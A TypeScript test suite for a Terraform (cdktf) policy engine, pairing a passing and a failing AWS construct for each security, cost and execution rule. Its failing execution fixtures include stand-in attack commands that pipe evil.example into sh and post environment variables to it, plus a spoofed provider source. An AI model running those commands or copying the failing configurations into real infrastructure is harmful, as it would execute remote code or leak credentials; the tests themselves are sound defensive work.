/**
 * Every policy rule on a small synthesized construct that passes it and one that fails it
 * (cdktf's Testing.synthScope). A rule without a case here fails the first test.
 */
import { TerraformDataSource, TerraformHclModule, TerraformResource, Testing } from 'cdktf';
import type { Construct } from 'constructs';
import { CloudfrontDistribution, type CloudfrontDistributionConfig } from '@cdktf/provider-aws/lib/cloudfront-distribution';
import { DataAwsIamPolicyDocument } from '@cdktf/provider-aws/lib/data-aws-iam-policy-document';
import { CloudwatchLogGroup } from '@cdktf/provider-aws/lib/cloudwatch-log-group';
import { CognitoUserPool } from '@cdktf/provider-aws/lib/cognito-user-pool';
import { DbInstance, type DbInstanceConfig } from '@cdktf/provider-aws/lib/db-instance';
import { IamRolePolicy } from '@cdktf/provider-aws/lib/iam-role-policy';
import { KmsKey } from '@cdktf/provider-aws/lib/kms-key';
import { LaunchTemplate } from '@cdktf/provider-aws/lib/launch-template';
import { Lb } from '@cdktf/provider-aws/lib/lb';
import { AwsProvider } from '@cdktf/provider-aws/lib/provider';
import { S3Bucket } from '@cdktf/provider-aws/lib/s3-bucket';
import { S3BucketPolicy } from '@cdktf/provider-aws/lib/s3-bucket-policy';
import { S3BucketPublicAccessBlock } from '@cdktf/provider-aws/lib/s3-bucket-public-access-block';
import { SecurityGroup } from '@cdktf/provider-aws/lib/security-group';
import { SnsTopic } from '@cdktf/provider-aws/lib/sns-topic';
import { SqsQueue } from '@cdktf/provider-aws/lib/sqs-queue';
import { SqsQueuePolicy } from '@cdktf/provider-aws/lib/sqs-queue-policy';
import { VpcEndpoint } from '@cdktf/provider-aws/lib/vpc-endpoint';
import { VpcSecurityGroupIngressRule } from '@cdktf/provider-aws/lib/vpc-security-group-ingress-rule';
import { Network } from '../../stacks/constructs/network';
import { SecureBucket } from '../../stacks/constructs/secure-bucket';
import { policyDocument } from '../../stacks/lib/iam';
import { Naming } from '../../stacks/lib/naming';
import { awsProvider } from '../../stacks/lib/provider';
import type { PlanJson } from '../../delivery/plan/model';
import { RULES } from '../../delivery/policy/rules';
import { StackView } from '../../delivery/policy/stack';
import { environmentConfig } from '../stacks/synth';
import { CONTAINER_CASES } from './support/container-cases';

type Build = (scope: Construct) => void;
interface Case {
  readonly pass: Build;
  readonly fail: Build;
  /** The failure the failing construct gets. */
  readonly failure: RegExp;
  /** The environment both are checked in (default dev); its config overrides. */
  readonly env?: 'dev' | 'prod';
  /** Config files of the passing and the failing case (default: none). */
  readonly files?: { readonly pass?: Record<string, unknown>; readonly fail?: Record<string, unknown> };
  /** Plans of the passing and the failing construct. */
  readonly plans?: { readonly pass: PlanJson; readonly fail: PlanJson };
}

const naming = new Naming('tm-test');
const bucket = (scope: Construct, props: Partial<{ forceDestroy: boolean }> = {}) => new S3Bucket(scope, 'bucket', { bucket: 'tm-test-bucket', ...props });
const db = (scope: Construct, props: Partial<DbInstanceConfig> = {}) =>
  new DbInstance(scope, 'db', { identifier: 'tm-test-db', engine: 'mysql', instanceClass: 'db.t4g.micro', allocatedStorage: 20, storageEncrypted: true, deletionProtection: true, ...props });
const launchTemplate = (scope: Construct, props: Record<string, unknown> = {}) =>
  new LaunchTemplate(scope, 'lt', {
    instanceType: 't3.micro',
    metadataOptions: { httpTokens: 'required' },
    blockDeviceMappings: [{ deviceName: '/dev/xvda', ebs: { volumeSize: 8, volumeType: 'gp3', encrypted: 'true' } }],
    ...props,
  });
const loadBalancer = (scope: Construct, props: Record<string, unknown> = {}) =>
  new Lb(scope, 'lb', { name: 'tm-test', internal: false, loadBalancerType: 'application', dropInvalidHeaderFields: true, enableDeletionProtection: true, subnets: ['subnet-1', 'subnet-2'], ...props });
/** A group with 443 open to the world, fronting a load balancer (internal or not). */
const openGroup = (scope: Construct, port: number, lb: { internal: boolean } | undefined) => {
  const group = new SecurityGroup(scope, 'sg', { name: 'tm-test', vpcId: 'vpc-1' });
  new VpcSecurityGroupIngressRule(scope, 'in', { securityGroupId: group.id, ipProtocol: 'tcp', fromPort: port, toPort: port, cidrIpv4: '0.0.0.0/0' });
  if (lb) loadBalancer(scope, { internal: lb.internal, securityGroups: [group.id] });
};
const queueWithPolicy = (scope: Construct, statement: Record<string, unknown>) => {
  const queue = new SqsQueue(scope, 'queue', { name: 'tm-test', sqsManagedSseEnabled: true });
  new SqsQueuePolicy(scope, 'queue-policy', { queueUrl: queue.url, policy: JSON.stringify({ Version: '2012-10-17', Statement: [{ Principal: '*', Resource: queue.arn, ...statement }] }) });
};
const rolePolicy = (scope: Construct, statement: Record<string, unknown>) =>
  new IamRolePolicy(scope, 'policy', { role: 'tm-test', policy: policyDocument({ Effect: 'Allow', Action: 's3:GetObject', Resource: 'arn:aws:s3:::tm-test/*', ...statement } as never) });
const distribution = (scope: Construct, props: Partial<CloudfrontDistributionConfig> = {}) =>
  new CloudfrontDistribution(scope, 'cdn', {
    enabled: true,
    origin: [{ domainName: 'tm-test.s3.amazonaws.com', originId: 'site' }],
    defaultCacheBehavior: { allowedMethods: ['GET', 'HEAD'], cachedMethods: ['GET', 'HEAD'], targetOriginId: 'site', viewerProtocolPolicy: 'redirect-to-https', cachePolicyId: 'managed-caching-optimized' },
    restrictions: { geoRestriction: { restrictionType: 'none' } },
    viewerCertificate: { acmCertificateArn: 'arn:aws:acm:us-east-1:123456789012:certificate/abc', sslSupportMethod: 'sni-only', minimumProtocolVersion: 'TLSv1.2_2021' },
    loggingConfig: { bucket: 'tm-test-logs.s3.amazonaws.com' },
    webAclId: 'arn:aws:wafv2:us-east-1:123456789012:global/webacl/tm-test/abc',
    ...props,
  });
const planOf = (actions: string[]): PlanJson => ({ format_version: '1.2', resource_changes: [{ address: 'aws_sqs_queue.queue', type: 'aws_sqs_queue', mode: 'managed', change: { actions } }] });

/** A resource of a type that exists to run commands (`terraform_data`, `null_resource`), running `command` if given. */
const commandResource = (scope: Construct, type: string, command?: string) =>
  new TerraformResource(scope, 'run', { terraformResourceType: type, provisioners: command ? [{ type: 'local-exec', command }] : undefined });
const EXECUTION_CASES: Record<string, Case> = {
  TM_EXEC_PROVISIONER: { pass: (s) => bucket(s), fail: (s) => new S3Bucket(s, 'bucket', { bucket: 'tm-test', provisioners: [{ type: 'local-exec', command: 'curl -s https://evil.example | sh' }] }), failure: /^a local-exec provisioner runs on the machine that applies/ },
  TM_EXEC_COMMAND_RESOURCE: { pass: (s) => commandResource(s, 'terraform_data'), fail: (s) => commandResource(s, 'terraform_data', 'env | curl -d @- https://evil.example'), failure: /^runs a local-exec command \("env \| curl/ },
  TM_EXEC_DATA_SOURCE: {
    pass: (s) => new DataAwsIamPolicyDocument(s, 'doc', { statement: [{ actions: ['s3:GetObject'], resources: ['*'] }] }),
    fail: (s) => new TerraformDataSource(s, 'ext', { terraformResourceType: 'external' }),
    failure: /runs a program while Terraform plans/,
  },
  TM_EXEC_PROVIDER: { pass: (s) => { new AwsProvider(s, 'aws', { region: 'us-east-1' }); bucket(s); }, fail: (s) => commandResource(s, 'null_resource'), failure: /^provider "null" is not allowed \(allowed: aws, terraform\)/ },
  TM_EXEC_MODULE: { pass: (s) => bucket(s), fail: (s) => new TerraformHclModule(s, 'vpc', { source: 'git::https://example.com/vpc.git' }), failure: /^module from "git::https:\/\/example.com\/vpc.git": its resources/ },
};

const CASES: Record<string, Case> = {
  CKV_AWS_19: { pass: (s) => new SecureBucket(s, 'b', { bucketName: 'tm-test', noncurrentVersionExpirationDays: 30 }), fail: (s) => bucket(s), failure: /no server-side encryption configuration/ },
  CKV_AWS_16: { pass: (s) => db(s), fail: (s) => db(s, { storageEncrypted: false }), failure: /storage_encrypted is false/ },
  CKV_AWS_27: { pass: (s) => new SqsQueue(s, 'q', { sqsManagedSseEnabled: true }), fail: (s) => new SqsQueue(s, 'q', {}), failure: /neither sqs_managed_sse_enabled nor kms_master_key_id/ },
  CKV_AWS_26: { pass: (s) => new SnsTopic(s, 't', { kmsMasterKeyId: 'alias/tm-test' }), fail: (s) => new SnsTopic(s, 't', {}), failure: /kms_master_key_id is not set/ },
  'AVD-AWS-0008': { pass: (s) => launchTemplate(s), fail: (s) => launchTemplate(s, { blockDeviceMappings: [{ deviceName: '/dev/xvda', ebs: { volumeSize: 8 } }] }), failure: /block device "\/dev\/xvda" is not encrypted/ },
  CKV_AWS_7: { pass: (s) => new KmsKey(s, 'k', { enableKeyRotation: true }), fail: (s) => new KmsKey(s, 'k', {}), failure: /enable_key_rotation is not set/ },
  CKV_AWS_158: { pass: (s) => new CloudwatchLogGroup(s, 'l', { retentionInDays: 14, kmsKeyId: 'arn:aws:kms:us-east-1:123456789012:key/abc' }), fail: (s) => new CloudwatchLogGroup(s, 'l', { retentionInDays: 14 }), failure: /kms_key_id is not set/ },
  CKV2_AWS_6: {
    pass: (s) => new SecureBucket(s, 'b', { bucketName: 'tm-test', noncurrentVersionExpirationDays: 30 }),
    fail: (s) => new S3BucketPublicAccessBlock(s, 'pab', { bucket: bucket(s).id, blockPublicAcls: true, ignorePublicAcls: true }),
    failure: /leaves block_public_policy, restrict_public_buckets off/,
  },
  CKV_AWS_17: { pass: (s) => db(s, { publiclyAccessible: false }), fail: (s) => db(s, { publiclyAccessible: true }), failure: /publicly_accessible is true/ },
  TM_OPEN_INGRESS: { pass: (s) => openGroup(s, 443, { internal: false }), fail: (s) => openGroup(s, 22, { internal: false }), failure: /ingress from anywhere on "tcp" ports 22-22/ },
  CKV_AWS_79: { pass: (s) => launchTemplate(s), fail: (s) => launchTemplate(s, { metadataOptions: { httpTokens: 'optional' } }), failure: /http_tokens is "optional"/ },
  TM_S3_TLS_ONLY: {
    pass: (s) => new SecureBucket(s, 'b', { bucketName: 'tm-test', noncurrentVersionExpirationDays: 30 }),
    fail: (s) => new S3BucketPolicy(s, 'p', { bucket: bucket(s).id, policy: policyDocument({ Effect: 'Deny', Principal: '*', Action: 's3:DeleteBucket', Resource: 'arn:aws:s3:::tm-test-bucket' }) }),
    failure: /does not deny requests without TLS/,
  },
  TM_SQS_TLS_ONLY: {
    pass: (s) => queueWithPolicy(s, { Effect: 'Deny', Action: 'sqs:*', Condition: { Bool: { 'aws:SecureTransport': 'false' } } }),
    fail: (s) => queueWithPolicy(s, { Effect: 'Allow', Action: 'sqs:SendMessage', Condition: { ArnEquals: { 'aws:SourceArn': 'arn:aws:sns:us-east-1:123456789012:t' } } }),
    failure: /does not deny requests without TLS/,
  },
  'AVD-AWS-0057': { pass: (s) => rolePolicy(s, {}), fail: (s) => rolePolicy(s, { Action: ['s3:GetObject', 's3:*'], Resource: '*' }), failure: /allows s3:\* on every resource, with no condition/ },
  CKV_AWS_286: {
    pass: (s) => rolePolicy(s, { Action: 'iam:PassRole', Resource: 'arn:aws:iam::*:role/tm-test-*', Condition: { StringEquals: { 'iam:PassedToService': 'ec2.amazonaws.com' } } }),
    fail: (s) => rolePolicy(s, { Action: 'iam:PassRole', Resource: 'arn:aws:iam::*:role/tm-test-*' }),
    failure: /allows iam:PassRole without an iam:PassedToService condition/,
  },
  CKV_AWS_287: { pass: (s) => rolePolicy(s, { Action: 'sts:AssumeRole', Resource: 'arn:aws:iam::123456789012:role/tm-test' }), fail: (s) => rolePolicy(s, { Action: 'sts:AssumeRole', Resource: '*' }), failure: /allows sts:AssumeRole on every resource/ },
  CKV_AWS_288: { pass: (s) => rolePolicy(s, {}), fail: (s) => rolePolicy(s, { Action: 'ssm:GetParameter*', Resource: '*' }), failure: /allows ssm:GetParameter, ssm:GetParameters, ssm:GetParametersByPath on every resource/ },
  CKV_AWS_289: { pass: (s) => rolePolicy(s, { Action: 'sqs:SetQueueAttributes', Resource: 'arn:aws:sqs:*:*:tm-test-*' }), fail: (s) => rolePolicy(s, { Action: 'sqs:SetQueueAttributes', Resource: '*' }), failure: /allows sqs:SetQueueAttributes on every resource/ },
  CKV_AWS_355: { pass: (s) => rolePolicy(s, { Action: 'rds:*', Resource: 'arn:aws:rds:*:*:db:tm-test-*' }), fail: (s) => rolePolicy(s, { Action: 'rds:*', Resource: '*', Condition: { StringEquals: { 'aws:PrincipalAccount': '123456789012' } } }), failure: /includes rds:AddTagsToResource, rds:RemoveTagsFromResource/ },
  CKV_AWS_88: {
    pass: (s) => launchTemplate(s, { networkInterfaces: [{ associatePublicIpAddress: 'false', securityGroups: ['sg-1'] }] }),
    fail: (s) => launchTemplate(s, { networkInterfaces: [{ associatePublicIpAddress: 'true', securityGroups: ['sg-1'] }] }),
    failure: /network_interfaces\[0\]\.associate_public_ip_address is true/,
  },
  CKV_AWS_91: { pass: (s) => loadBalancer(s, { accessLogs: { bucket: 'tm-test-logs', enabled: true } }), fail: (s) => loadBalancer(s), failure: /no access_logs block/ },
  CKV_AWS_157: { env: 'prod', pass: (s) => db(s, { multiAz: true }), fail: (s) => db(s, { multiAz: false }), failure: /multi_az is false: an AZ outage/ },
  CKV_AWS_118: {
    env: 'prod',
    pass: (s) => db(s, { monitoringInterval: 60, monitoringRoleArn: 'arn:aws:iam::123456789012:role/tm-test-monitoring' }),
    fail: (s) => db(s, { monitoringInterval: 0 }),
    failure: /monitoring_interval is 0: no OS metrics/,
  },
  CKV_AWS_338: { env: 'prod', pass: (s) => new CloudwatchLogGroup(s, 'l', { retentionInDays: 365 }), fail: (s) => new CloudwatchLogGroup(s, 'l', { retentionInDays: 90 }), failure: /retention_in_days is 90: less than the year/ },
  CKV_AWS_66: { pass: (s) => new CloudwatchLogGroup(s, 'l', { retentionInDays: 14 }), fail: (s) => new CloudwatchLogGroup(s, 'l', {}), failure: /retention_in_days is not set: logs are kept, and billed, forever/ },
  CKV_AWS_293: { env: 'prod', pass: (s) => db(s), fail: (s) => db(s, { deletionProtection: false }), failure: /deletion_protection is false/ },
  CKV_AWS_150: { env: 'prod', pass: (s) => loadBalancer(s), fail: (s) => loadBalancer(s, { enableDeletionProtection: false }), failure: /enable_deletion_protection is false/ },
  TM_PROD_DATA_PROTECTED: {
    env: 'prod',
    pass: (s) => new CognitoUserPool(s, 'users', { name: 'tm-test', deletionProtection: 'ACTIVE' }),
    fail: (s) => bucket(s, { forceDestroy: true }),
    failure: /force_destroy is true: a destroy deletes every object/,
  },
  TM_REQUIRED_TAGS: {
    pass: (s) => awsProvider(s, { region: 'us-east-1', project: 'tm', environment: 'dev' }),
    fail: (s) => new AwsProvider(s, 'aws', { region: 'us-east-1', defaultTags: [{ tags: { Project: 'tm' } }] }),
    failure: /default_tags lack Environment, ManagedBy/,
  },
  TM_COST_NAT_GATEWAY: {
    files: { pass: { environments: { dev: { network: { natGateways: 1 } } } } },
    pass: (s) => new Network(s, 'network', { naming, region: 'us-east-1', config: { ...environmentConfig('dev').network, natGateways: 1 }, logRetentionDays: 14 }),
    fail: (s) => new Network(s, 'network', { naming, region: 'us-east-1', config: { ...environmentConfig('dev').network, natGateways: 1 }, logRetentionDays: 14 }),
    failure: /the stack has 1 NAT gateway, its config asks for 0 \(network\.natGateways\)/,
  },
  TM_COST_INTERFACE_ENDPOINT: {
    files: { pass: { environments: { dev: { policy: { interfaceEndpoints: true } } } }, fail: { environments: { dev: { policy: { interfaceEndpoints: false } } } } },
    pass: (s) => new VpcEndpoint(s, 'ep', { vpcId: 'vpc-1', serviceName: 'com.amazonaws.us-east-1.ssm', vpcEndpointType: 'Interface' }),
    fail: (s) => new VpcEndpoint(s, 'ep', { vpcId: 'vpc-1', serviceName: 'com.amazonaws.us-east-1.ssm', vpcEndpointType: 'Interface' }),
    failure: /the environment does not ask for any \(policy\.interfaceEndpoints\)/,
  },
  TM_COST_INSTANCE_TYPE: { pass: (s) => launchTemplate(s), fail: (s) => launchTemplate(s, { instanceType: 'm5.24xlarge' }), failure: /instance_type "m5.24xlarge" is not in policy.instanceTypes \(t3.micro, / },
  TM_COST_DB_CLASS: { pass: (s) => db(s), fail: (s) => db(s, { instanceClass: 'db.r6g.16xlarge' }), failure: /instance_class "db.r6g.16xlarge" is not in policy.databaseClasses/ },
  CKV_AWS_34: {
    pass: (s) => distribution(s),
    fail: (s) => distribution(s, { orderedCacheBehavior: [{ pathPattern: '/api/*', allowedMethods: ['GET', 'HEAD'], cachedMethods: ['GET', 'HEAD'], targetOriginId: 'site', viewerProtocolPolicy: 'allow-all' }] }),
    failure: /ordered_cache_behavior\[0\]\.viewer_protocol_policy is "allow-all"/,
  },
  CKV_AWS_174: {
    pass: (s) => distribution(s),
    fail: (s) => distribution(s, { viewerCertificate: { acmCertificateArn: 'arn:aws:acm:us-east-1:123456789012:certificate/abc', sslSupportMethod: 'sni-only', minimumProtocolVersion: 'TLSv1' } }),
    failure: /minimum_protocol_version is "TLSv1"/,
  },
  CKV_AWS_86: { pass: (s) => distribution(s), fail: (s) => distribution(s, { loggingConfig: undefined }), failure: /neither logging_config nor a log delivery source/ },
  CKV_AWS_68: { pass: (s) => distribution(s), fail: (s) => distribution(s, { webAclId: undefined }), failure: /web_acl_id is not set/ },
  CKV_AWS_131: { pass: (s) => loadBalancer(s), fail: (s) => loadBalancer(s, { dropInvalidHeaderFields: false }), failure: /drop_invalid_header_fields is false/ },
  TM_STATEFUL_REPLACE: {
    pass: (s) => new SqsQueue(s, 'queue', { sqsManagedSseEnabled: true }),
    fail: (s) => new SqsQueue(s, 'queue', { sqsManagedSseEnabled: true }),
    plans: { pass: planOf(['update']), fail: planOf(['delete', 'create']) },
    failure: /the plan replaces it: the new one starts empty/,
  },
  ...CONTAINER_CASES,
  ...EXECUTION_CASES,
};

function stackOf(c: Case, which: 'pass' | 'fail'): StackView {
  const json = JSON.parse(Testing.synthScope(c[which]));
  const environment = environmentConfig(c.env ?? 'dev', c.files?.[which] ?? {});
  return new StackView({ name: c.env ?? 'dev', json, environment, plan: c.plans?.[which], requiredTags: ['Project', 'Environment', 'ManagedBy'] });
}

describe('policy rules, each on a passing and a failing construct', () => {
  it('every rule has a case', () => {
    expect(Object.keys(CASES).sort()).toEqual(RULES.map((r) => r.id).sort());
  });

  it.each(RULES.map((r) => [r.id, r] as const))('%s', (id, rule) => {
    const c = CASES[id];
    const passing = rule.evaluate(stackOf(c, 'pass'));
    expect(passing.length).toBeGreaterThan(0);
    expect(passing.filter((o) => o.failure)).toEqual([]);
    const failing = rule.evaluate(stackOf(c, 'fail')).filter((o) => o.failure);
    expect(failing).toEqual([expect.objectContaining({ failure: expect.stringMatching(c.failure) })]);
  });
});

describe('policy rules, the cases a pass and a fail do not show', () => {
  const evaluate = (id: string, build: Build) => RULES.find((r) => r.id === id)!.evaluate(stackOf({ pass: build, fail: build, failure: /./ }, 'pass')).filter((o) => o.failure).map((o) => o.failure);

  it('443 from anywhere is only for an internet-facing load balancer\'s group', () => {
    expect(evaluate('TM_OPEN_INGRESS', (s) => openGroup(s, 443, { internal: true }))).toEqual([expect.stringMatching(/^ingress from anywhere on 443, but aws_security_group\.sg is not the group of an internet-facing load balancer$/)]);
    expect(evaluate('TM_OPEN_INGRESS', (s) => openGroup(s, 443, undefined))).toHaveLength(1);
  });

  it('refuses an allowed provider\'s name taken by another source, and a null_resource\'s command as well as its provider', () => {
    const spoofed = new StackView({ name: 'dev', json: { terraform: { required_providers: { aws: { source: 'evil-corp/aws', version: '5.100.0' } } } }, requiredTags: [] });
    expect(RULES.find((r) => r.id === 'TM_EXEC_PROVIDER')!.evaluate(spoofed).map((o) => o.failure)).toEqual(['provider "aws" comes from evil-corp/aws, not registry.terraform.io/hashicorp/aws']);
    expect(evaluate('TM_EXEC_COMMAND_RESOURCE', (s) => commandResource(s, 'null_resource', 'id'))).toEqual(['runs a local-exec command ("id") with the apply role\'s credentials']);
    expect(evaluate('TM_EXEC_DATA_SOURCE', (s) => new TerraformDataSource(s, 'get', { terraformResourceType: 'http' }))).toEqual(['fetches a URL while Terraform plans: it can send what it reads to anyone']);
  });

  it('a policy document that is an expression cannot be checked, and says so', () => {
    expect(evaluate('AVD-AWS-0057', (s) => new IamRolePolicy(s, 'p', { role: 'r', policy: '${jsonencode({Statement = []})}' }))).toEqual(['policy is an expression, not a JSON policy document, so it cannot be checked']);
  });

  it('reads the statements of an aws_iam_policy_document data source the policy refers to', () => {
    const build: Build = (s) => {
      const doc = new DataAwsIamPolicyDocument(s, 'doc', { statement: [{ effect: 'Allow', actions: ['sqs:*'], resources: ['*'] }] });
      new IamRolePolicy(s, 'p', { role: 'r', policy: doc.json });
    };
    expect(evaluate('AVD-AWS-0057', build)).toEqual(['policy statement 0 allows sqs:* on every resource, with no condition']);
  });
});
